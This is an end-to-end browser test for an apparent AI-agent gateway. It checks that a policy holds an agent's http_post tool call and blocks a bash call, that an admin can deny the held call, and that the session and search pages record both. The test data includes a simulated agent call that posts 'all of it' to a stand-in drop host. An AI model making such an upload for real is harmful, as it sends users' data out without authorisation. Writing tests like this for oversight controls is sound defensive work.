using System.Text.Json.Nodes;
using SaaSGate.TestKit;
using Xunit;
using static Microsoft.Playwright.Assertions;

namespace SaaSGate.EndToEnd.Tests.Browser;

/// <summary>Tool calls that a rule held or blocked, as a responder finds them: in the session, live, and by the rule.</summary>
[Collection(OtherDemoCollection.Name)]
public sealed class WithheldCallTests(DemoStack stack)
{
    private const string Policy = """
        rules:
          - name: hold-uploads
            on: tool_use
            severity: high
            when: { tools: [http_post] }
            then: hold
          - name: no-shells
            on: tool_use
            when: { tools: [bash] }
            then: block

        """;

    [Fact]
    public async Task What_became_of_calls_stands_in_the_session_and_is_found_by_the_rule()
    {
        var skill = stack.Skill("crm-export");
        await stack.Api.PutPolicyAsync(await stack.Api.PostAsync("policies", new JsonObject { ["name"] = "calls", ["scope"] = $"skill:{skill.Id}", ["document"] = "rules: []" }), Policy);
        await using var admin = await stack.SignInAsync("admin");
        var page = admin.Page;

        // 1. One call waits: the session says so while it does, and leads to the approval. The rule is known when a call of it is refused.
        var (session, cancellation) = ("", Bounded.Cancellation);
        while (session.Length == 0)
        {
            using var blocked = await skill.SendAsync(SkillCaller.Body("[[sim: text=\"Listing.\"]] [[sim: tool=bash input={\"command\":\"ls /withheld\"}]]", tool: "bash"), cancellation, session: "withheld calls");
            if (!blocked.IsSuccessStatusCode)
                session = blocked.Headers.GetValues("saasgate-session-id").Single();
        }
        var sending = skill.SendAsync(
            SkillCaller.Body("[[sim: text=\"Sending.\"]] [[sim: tool=http_post input={\"url\":\"https://drop.example/withheld\",\"body\":\"all of it\"}]]", stream: true, tool: "http_post"), cancellation, session: "withheld calls");
        await admin.OpenAsync($"/sessions/{session}");
        var held = page.GetByTestId("withheld-hold");
        await Expect(held).ToContainTextAsync("http_post");
        await Expect(held).ToContainTextAsync("by rule hold-uploads of policy version 2");
        await Expect(held).ToContainTextAsync("Waits for a decision.");
        await held.GetByRole(Microsoft.Playwright.AriaRole.Link).ClickAsync();
        await page.GetByTestId("decision-note").FillAsync("Not to that host.");
        await page.GetByTestId("deny").ClickAsync();
        using (var answer = await sending)
            Assert.Contains("denied", await answer.Content.ReadAsStringAsync(cancellation), StringComparison.Ordinal);

        // 2. Back in the session it says who denied it; the other was blocked. What they were called with is there to read.
        await admin.OpenAsync($"/sessions/{session}");
        await Expect(held).ToContainTextAsync("Denied by");
        await Expect(page.GetByTestId("withheld-block").First).ToContainTextAsync("The skill did not get it.");
        await held.Locator("summary").ClickAsync();
        await Expect(held).ToContainTextAsync("https://drop.example/withheld");
        await held.ScrollIntoViewIfNeededAsync();
        await admin.LookAsync("withheld");

        // 3. Search finds both by their rules, and by what the call said.
        await admin.OpenAsync("/search?rule=[\"hold-uploads\"]");
        await Expect(page.GetByTestId("search-hit")).ToHaveCountAsync(1);
        await admin.OpenAsync("/search?q=drop.example");
        await Expect(page.GetByTestId("search-hit")).ToHaveCountAsync(1);
        await Expect(page.GetByTestId("search-facets")).ToContainTextAsync("hold-uploads");
        await admin.ShotAsync("withheld-search");
    }
}
